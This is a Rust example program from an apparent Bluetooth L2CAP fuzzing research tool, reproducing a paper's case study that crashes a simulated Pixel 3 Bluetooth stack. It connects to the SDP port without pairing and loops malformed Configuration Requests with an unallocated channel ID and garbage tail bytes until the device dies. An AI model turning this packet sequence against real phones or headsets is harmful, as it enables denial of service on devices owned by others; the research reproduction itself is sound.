//! Reproduces the paper's §IV-E case study: the Pixel 3 denial of service.
//!
//! The script obtains a wired target environment from
//! `Campaign::builder().env()`, connects to the simulated Pixel 3's SDP port
//! without pairing, walks the channel into the configuration job and replays
//! malformed Configuration Requests with an unallocated DCID and a garbage
//! tail until the seeded null-pointer-dereference fires, then prints the
//! tombstone.
//!
//! Run with: `cargo run --example case_study_pixel3`

use btcore::{Identifier, Psm};
use btstack::profiles::{DeviceProfile, ProfileId};
use l2cap::packet::SignalingPacket;
use l2fuzz::campaign::Campaign;
use l2fuzz::guide::StateGuide;

fn main() {
    let mut env = Campaign::builder()
        .target(DeviceProfile::table5(ProfileId::D2))
        .seed(3)
        .env()
        .expect("target environment builds");

    // Step 1: connection to the SDP port (no pairing), entering the
    // configuration job.
    let mut guide = StateGuide::new();
    let ctx = guide
        .open_channel(&mut env.link, Psm::SDP, false)
        .expect("SDP connect");
    println!(
        "connected: our SCID {} / target DCID {}",
        ctx.scid, ctx.dcid
    );

    // Step 2: malformed Configuration Requests — DCID value from the normal
    // range but ignoring the allocation, plus a garbage tail (Fig. 7).
    let mut attempts = 0u32;
    while env.link.device_alive() {
        attempts += 1;
        let packet = SignalingPacket {
            identifier: Identifier((attempts % 250 + 1) as u8),
            code: 0x04,
            declared_data_len: 8,
            data: vec![
                0x8F, 0x7B, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xD2, 0x3A, 0x91, 0x0E,
            ]
            .into(),
        };
        env.link.send_frame(&packet.to_frame());
        if attempts > 10_000 {
            break;
        }
    }

    println!("bluetooth terminated after {attempts} malformed packets");
    for dump in env.device.lock().crash_dumps() {
        println!("--- tombstone ---\n{}", dump.render());
    }
}
